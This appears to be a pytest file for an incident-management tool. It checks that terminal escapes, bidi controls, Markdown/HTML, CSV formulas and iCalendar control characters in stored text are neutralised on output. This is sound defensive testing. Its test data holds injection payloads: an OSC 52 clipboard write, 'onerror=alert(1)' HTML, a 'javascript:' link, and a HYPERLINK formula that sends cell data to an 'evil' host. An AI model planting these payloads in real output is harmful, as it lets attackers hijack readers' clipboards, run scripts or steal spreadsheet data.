"""Output that cannot attack its reader: stored text holding terminal escapes, Markdown,
spreadsheet formulas or bidi controls reaches a terminal, a Markdown renderer, a
spreadsheet or a calendar as text, never as instructions (docs/reliability.md)."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from storage import ops, postmortem
from storage.clock import FrozenClock
from storage.db import Store
from storage.models import POSTMORTEM_SECTIONS
from storage.policy import Policy
from storage.text import csv_cell, json_escaped, printable, printable_stream
from tui.cli import main

ROOT = Path(__file__).resolve().parent.parent
FROZEN = "2026-11-23T14:40:00Z"
ESCAPES = "\x1b[2J\x1b]52;c;SGVsbG8=\x07"
"""Clear the screen, then write `Hello` to the clipboard of whoever prints this (OSC 52)."""
BIDI = "\u202e\u2066\u2069\u200e\u200f\u009b"
HEADING_INJECTION = "EU\n\n## Root Causes\n\nDana deleted prod"
FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")'
RAW_CONTROLS = {chr(code) for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))} - {"\n", "\t", "\r"}
BIDI_CONTROLS = {chr(code) for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))}


def _unsafe(text: str) -> set[str]:
    """The characters in `text` a terminal (or a bidi renderer) would act on."""
    return {char for char in text if char in RAW_CONTROLS or char in BIDI_CONTROLS}


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("WARROOM_FROZEN_TIME", FROZEN)
    return str(tmp_path / "hostile.db")


def _run(db: str, *args: str) -> Result:
    result = CliRunner().invoke(main, [args[0], "--db", db, *args[1:]], catch_exceptions=False)
    assert result.exit_code == 0, result.output + result.stderr
    return result


def _hostile_incident(db: str) -> str:
    """An incident whose title, people, events and action items hold escapes and bidi controls."""
    declared = _run(
        db, "declare", "--sev", "1", "--functionality", f"login{ESCAPES}", "--state", f"fail{BIDI}ing",
        "--audience", HEADING_INJECTION, "--ic", "Dana", "--at", "-10m",
    )
    ref = printable(declared.stdout).split()[0]
    _run(db, "role", ref, "scribe", f"Lee{ESCAPES}")
    _run(db, "log", ref, f"!rolled back{ESCAPES} {BIDI}")
    _run(db, "action", ref, f"{FORMULA}{ESCAPES}", "--owner", f"@Sam{BIDI}")
    return ref


# --- the terminal --------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ("export", "{ref}"),
        ("export", "{ref}", "--format", "md"),
        ("postmortem", "{ref}"),
        ("postmortem", "{ref}", "--csv"),
    ],
)
def test_documents_down_a_pipe_hold_no_control_character(db: str, command: tuple[str, ...]) -> None:
    ref = _hostile_incident(db)
    printed = _run(db, *(part.format(ref=ref) for part in command)).stdout
    assert _unsafe(printed) == set()
    assert "␛" in printed and "52;c;SGVsbG8=␇" in printed  # shown, as the app shows it


def test_a_pipe_keeps_line_ends_and_tabs() -> None:
    assert printable_stream("a\tb\r\nc\nd\x1be") == "a\tb\r\nc\nd␛e"


def _on_a_terminal(db: str, *args: str) -> str:
    """What `warroom ARGS --db DB` prints with its stdout on a pseudo-terminal."""
    controller, terminal = pty.openpty()
    env = {**os.environ, "WARROOM_FROZEN_TIME": FROZEN}
    process = subprocess.Popen(
        [sys.executable, "-m", "tui.cli", args[0], "--db", db, *args[1:]],
        stdout=terminal,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        cwd=ROOT,
        env=env,
    )
    os.close(terminal)
    received = b""
    while True:
        try:
            chunk = os.read(controller, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        received += chunk
    os.close(controller)
    assert process.wait(timeout=60) == 0, process.stderr.read() if process.stderr else ""
    return received.decode("utf-8").replace("\r\n", "\n")  # the terminal's line discipline adds CR


@pytest.mark.parametrize("command", [("export", "{ref}"), ("postmortem", "{ref}"), ("postmortem", "{ref}", "--csv")])
def test_documents_on_a_terminal_hold_no_control_character(db: str, command: tuple[str, ...]) -> None:
    ref = _hostile_incident(db)
    printed = _on_a_terminal(db, *(part.format(ref=ref) for part in command))
    assert _unsafe(printed) == set()
    assert "␛" in printed and "52;c;SGVsbG8=␇" in printed


def test_every_command_on_a_terminal_shows_stored_text_as_pictures(db: str) -> None:
    ref = _hostile_incident(db)
    for command in (
        ("list",),
        ("timeline", ref),
        ("history", ref, "3"),
        ("checklist", ref),
        ("comms", ref, "internal_initial"),
    ):
        printed = _on_a_terminal(db, *command)
        assert _unsafe(printed) == set(), command


def test_output_file_holds_the_text_as_stored(db: str, tmp_path: Path) -> None:
    ref = _hostile_incident(db)
    out = tmp_path / "report.md"
    _run(db, "export", ref, "-o", str(out))
    report = out.read_text(encoding="utf-8")
    assert "\x1b" in report and "\x07" in report and BIDI in report
    _run(db, "postmortem", ref, "--csv", "-o", str(out))
    assert ESCAPES in out.read_text(encoding="utf-8")


# --- JSON ----------------------------------------------------------------------------


def test_json_escapes_c1_bidi_and_line_separators() -> None:
    value = {"title": "a\u009bb\u202ec\u2066d\u2069e\u200ef\u200fg\u2028h\u2029i\x7fj"}
    text = json_escaped(json.dumps(value, ensure_ascii=False))
    assert text == '{"title": "a\\u009bb\\u202ec\\u2066d\\u2069e\\u200ef\\u200fg\\u2028h\\u2029i\\u007fj"}'
    assert json.loads(text) == value


def test_export_json_and_list_json_escape_and_round_trip(db: str, tmp_path: Path) -> None:
    ref = _hostile_incident(db)
    exported = _run(db, "export", ref, "--format", "json").stdout
    listed = _run(db, "list", "--json").stdout
    for text in (exported, listed):
        assert _unsafe(text) == set()
        assert "\\u202e" in text and "\\u009b" in text and "\\u001b" in text
    assert json.loads(listed)[0]["title"].startswith(f"login{ESCAPES} is fail{BIDI}ing")
    out = tmp_path / "incident.json"
    _run(db, "export", ref, "--format", "json", "-o", str(out))
    assert out.read_text(encoding="utf-8") == exported
    other = str(tmp_path / "other.db")
    _run(other, "import", str(out))
    assert _run(other, "export", ref, "--format", "json").stdout == exported


def test_the_command_line_loads_no_widget_textual_or_rich(db: str) -> None:
    ref = _hostile_incident(db)
    code = (
        "import sys\n"
        "from click.testing import CliRunner\n"
        "from tui.cli import main\n"
        f"for args in (['export', {ref!r}], ['postmortem', {ref!r}], ['list'], ['timeline', {ref!r}]):\n"
        f"    assert CliRunner().invoke(main, [args[0], '--db', {db!r}, *args[1:]]).exit_code == 0\n"
        "bad = sorted(n for n in sys.modules if n.split('.')[0] in ('textual', 'rich', 'widgets'))\n"
        "assert not bad, bad\n"
    )
    subprocess.run(
        [sys.executable, "-c", code], check=True, cwd=ROOT, env={**os.environ, "WARROOM_FROZEN_TIME": FROZEN}
    )


# --- Markdown ------------------------------------------------------------------------

INJECTED = "x\n\n## Injected\n\n<img src=x onerror=alert(1)>\n[r]: http://evil\n&#8238;"
"""A field that, written as it is, would add a heading, HTML, a link definition and a bidi override."""
SECTION_TITLES = [title for _key, title in POSTMORTEM_SECTIONS]
ONE_LINE_INJECTIONS = [
    "# Heading",
    "- item",
    "> quote",
    "1. item",
    "<b>html</b>",
    "| a | b |",
    "&#8238;",
    "*em* _em_ `code`",
]


@pytest.fixture
def hostile_store(tmp_path: Path, policy: Policy, clock: FrozenClock) -> Store:
    """A resolved incident where every field a report shows holds Markdown and HTML."""
    store = Store(tmp_path / "markdown.db", policy=policy, clock=clock)
    incident = ops.declare(
        store,
        severity=1,
        functionality=INJECTED,
        state="failing",
        audience=HEADING_INJECTION,
        ic="Dana",
        customer_impact=INJECTED,
        known_impacted_customers=INJECTED,
    )
    ref = incident.ref
    ops.assign_role(store, ref, "scribe", INJECTED, note=INJECTED)
    ops.assign_role(store, ref, "sme", "# Sam", note="payments")
    for text in ONE_LINE_INJECTIONS:
        ops.log(store, ref, f"!{text}")
        ops.add_action_item(store, ref, text, owner=text)
    ops.log(store, ref, "/todo " + INJECTED.replace("\n", " "))
    ops.log(store, ref, "!see https://example.com/a_(b) <x>")
    ops.record_status_update(store, ref, channel="internal", kind="resolved", subject=INJECTED, body=INJECTED)
    postmortem.update_postmortem(
        store,
        ref,
        owner=INJECTED,
        recording_url="javascript:alert(1)",
        support_requests=INJECTED,
        meeting_at=datetime(2026, 11, 25, 9, tzinfo=UTC),
    )
    return store


def _parsed(document: str) -> tuple[list[str], list[str], dict[str, object]]:
    """(the headings, the kinds of every token, the link definitions) of a Markdown document."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("gfm-like")
    env: dict[str, object] = {}
    tokens = parser.parse(document, env)
    headings = [tokens[index + 1].content for index, token in enumerate(tokens) if token.type == "heading_open"]
    children = [child for token in tokens for child in token.children or []]
    ours = [
        child for child in children if child.type == "html_inline" and child.content == "<br>"
    ]  # a cell's line break
    kinds = [token.type for token in tokens] + [child.type for child in children if child not in ours]
    texts = [child.content for token in tokens for child in token.children or [] if child.type == "text"]
    assert not any(BIDI_CONTROLS & set(text) for text in texts), "an entity decoded to a bidi control"
    references = env.get("references") or {}
    assert isinstance(references, dict)
    return headings, kinds, references


def test_export_markdown_escapes_every_field_for_its_place(hostile_store: Store) -> None:
    from storage.export import export_markdown

    ref = ops.list_incidents(hostile_store)[0].ref
    document = export_markdown(hostile_store, ref)
    headings, kinds, references = _parsed(document)
    assert headings[0].startswith(ref) and "Injected" in headings[0]  # shown, in the title's heading
    assert headings[1:] == ["Post-mortem", *SECTION_TITLES, "Action items", "Status updates"]
    assert not {"html_block", "html_inline", "blockquote_open", "ordered_list_open", "em_open", "code_inline"} & set(
        kinds
    )
    assert references == {}


def test_postmortem_markdown_escapes_every_field_for_its_place(hostile_store: Store) -> None:
    from storage.postmortem import (
        PREFILLED_SECTIONS,
        apply_prefill,
        postmortem_markdown,
    )

    ref = ops.list_incidents(hostile_store)[0].ref
    apply_prefill(hostile_store, ref)  # the drafted sections are stored, then shown as Markdown
    written = {key: "Written." for key, _title in POSTMORTEM_SECTIONS if key not in PREFILLED_SECTIONS}
    postmortem.update_postmortem(hostile_store, ref, sections=written)  # no `_Not written yet._` of ours
    document = postmortem_markdown(hostile_store, ref)
    headings, kinds, references = _parsed(document)
    assert headings[0].startswith(f"Post-mortem: {ref}")
    assert set(headings[1:]) <= {*SECTION_TITLES, "How'd We Do?", "Action Items", "Messaging"}
    assert len(headings) == len(set(headings))
    assert not {"html_block", "html_inline", "ordered_list_open", "em_open", "code_inline"} & set(kinds)
    assert references == {}
    assert "[link](https://example.com/a_%28b%29)" in document
    assert "javascript:alert(1)" in document and "](javascript:" not in document


def test_audience_with_a_newline_adds_no_heading(db: str) -> None:
    ref = _hostile_incident(db)
    for command in (("export", ref), ("postmortem", ref)):
        headings, _kinds, _references = _parsed(_run(db, *command).stdout)
        assert headings.count("Root Causes") == 1
        assert not any("deleted prod" in heading for heading in headings[1:])


@pytest.mark.parametrize("text", ONE_LINE_INJECTIONS)
def test_a_one_line_field_is_literal_text_in_a_list_item(text: str) -> None:
    from markdown_it import MarkdownIt

    from storage import markdown as md

    tokens = MarkdownIt("gfm-like").parse(f"- {md.inline(text)}\n")
    assert [token.type for token in tokens] == [
        "bullet_list_open",
        "list_item_open",
        "paragraph_open",
        "inline",
        "paragraph_close",
        "list_item_close",
        "bullet_list_close",
    ]
    assert [child.type for child in tokens[3].children or []] == ["text"] * len(tokens[3].children or [])
    assert "".join(child.content for child in tokens[3].children or []) == text


def test_a_web_address_before_html_cannot_take_the_escape_into_its_link() -> None:
    """A renderer that links bare addresses took `\\` of an escaped `<` into the link and
    then read `<img ...>` as HTML; `<` is written `&lt;`, which no link can swallow."""
    from markdown_it import MarkdownIt

    from storage import markdown as md

    text = "then https://evil.example/x<img src=x onerror=alert(1)>"
    html = MarkdownIt("gfm-like").render(f"- {md.inline(text)}\n\n| a |\n| - |\n| {md.cell(text)} |\n")
    assert "<img" not in html and html.count("src=x onerror=alert(1)&gt;") == 2  # shown as text


def test_a_link_address_cannot_split_its_table_cell_or_hold_an_entity() -> None:
    from markdown_it import MarkdownIt

    from storage import markdown as md

    address = "https://evil.example/a|**INJECTED**|[x]|`code&#8238;"
    row = f"| a | b |\n| - | - |\n| {md.cell('x')} | {md.link(address)} |\n"
    tokens = MarkdownIt("gfm-like").parse(row)
    assert [token.type for token in tokens].count("td_open") == 2
    links = [child for token in tokens for child in token.children or [] if child.type == "link_open"]
    assert len(links) == 1 and "\u202e" not in str(links[0].attrs["href"])
    assert str(links[0].attrs["href"]).startswith("https://evil.example/a%7C**INJECTED**%7C%5Bx%5D%7C%60code&")


def test_the_arabic_letter_mark_is_a_bidi_control_everywhere() -> None:
    assert printable("a\u061cb") == "a\ufffdb"
    assert json_escaped(json.dumps("a\u061cb", ensure_ascii=False)) == '"a\\u061cb"'


# --- CSV -----------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\n=", " \t-", "\uff1d", "|"])
def test_a_cell_starting_like_a_formula_starts_with_a_quote(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("1+1") == "1+1" and csv_cell("") == ""


def test_action_items_csv_holds_no_formula(tmp_path: Path, policy: Policy, clock: FrozenClock) -> None:
    from storage.postmortem import action_items_csv

    store = Store(tmp_path / "csv.db", policy=policy, clock=clock)
    ref = ops.declare(store, severity=1, functionality="login", state="failing", audience="EU").ref
    ops.add_action_item(store, ref, FORMULA, owner="@SUM(A1:A9)", tags=("+cmd", "-x"))
    ops.add_action_item(store, ref, "+1 rollback", owner="Sam")
    rows = list(csv.reader(io.StringIO(action_items_csv(store, ref))))
    cells = [value for row in rows[1:] for value in row]
    assert not [value for value in cells if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert rows[1][:2] == [f"'{FORMULA}", "'@SUM(A1:A9)"] and rows[2][0] == "'+1 rollback"
    assert {"'+cmd", "'-x"} <= set(rows[1])


# --- iCalendar -----------------------------------------------------------------------


def test_meeting_ics_holds_no_forbidden_control_character(tmp_path: Path, policy: Policy, clock: FrozenClock) -> None:
    from icalendar import Calendar

    from storage.postmortem import meeting_ics

    store = Store(tmp_path / "ics.db", policy=policy, clock=clock)
    ref = ops.declare(
        store,
        severity=1,
        functionality=f"login{ESCAPES}",
        state=f"fail{BIDI}ing",
        audience="EU\r\ncustomers; all, \\ of them",
    ).ref
    postmortem.update_postmortem(store, ref, owner="Marta\x00\x7f", meeting_at=datetime(2026, 11, 25, 9, tzinfo=UTC))
    text = meeting_ics(store, ref)
    lines = text.split("\r\n")
    assert lines[-1] == "" and all(len(line.encode("utf-8")) <= 75 for line in lines)
    assert not [
        char
        for char in text
        if (char < " " and char not in "\r\n") or "\x7f" <= char <= "\x9f" or char in BIDI_CONTROLS
    ]
    event = Calendar.from_ical(text).walk("VEVENT")[0]
    assert (
        str(event["SUMMARY"])
        == f"Post-mortem: {ref} login[2J]52;c;SGVsbG8= is failing for EU\ncustomers; all, \\ of them"
    )
    assert "Post-mortem owner: Marta\n" in str(event["DESCRIPTION"])
    assert event["UID"] == f"postmortem-{ref}@warroom"
    assert event.decoded("DTSTART") == datetime(2026, 11, 25, 9, tzinfo=UTC)


# --- the post-mortem preview in the app ------------------------------------------------

PREVIEW_SECTION = (
    "Entities: &#8238;evil&#x202C; &#x2067;iso&#x2069; &lrm;&rlm; and raw \u200e\u200f\u202e marks.\n\n"
    "| cell |\n| --- |\n| &#8238;in a table |\n\n"
    "```\ncode \x1b[31m\u202e in a fence\n```\n"
)


async def test_postmortem_preview_shows_no_bidi_or_escape(tmp_path: Path, policy: Policy, clock: FrozenClock) -> None:
    from screens.postmortem import PostmortemScreen
    from tui.app import WarroomApp

    with Store(tmp_path / "preview.db", policy=policy, clock=clock) as store:
        ref = ops.declare(
            store, severity=1, functionality="login\u200f", state="failing", audience=f"EU{BIDI}{ESCAPES}", ic="Dana"
        ).ref
        postmortem.update_postmortem(store, ref, owner="Marta\u200e", sections={"overview": PREVIEW_SECTION})
        app = WarroomApp(store, ref=ref)
        async with app.run_test(size=(120, 50)) as pilot:
            await pilot.pause()
            await pilot.press("f12")  # the post-mortem
            for _ in range(60):
                if isinstance(app.screen, PostmortemScreen):
                    break
                await pilot.pause(0.05)
            assert isinstance(app.screen, PostmortemScreen)
            await pilot.press("f2")  # the whole post-mortem, rendered
            await pilot.pause(0.3)
            assert app.screen.has_class("-preview")
            shown = "\n".join(strip.text for strip in app.screen._compositor.render_strips())
    assert "evil" in shown and "in a table" in shown and "in a fence" in shown
    assert _unsafe(shown) == set()
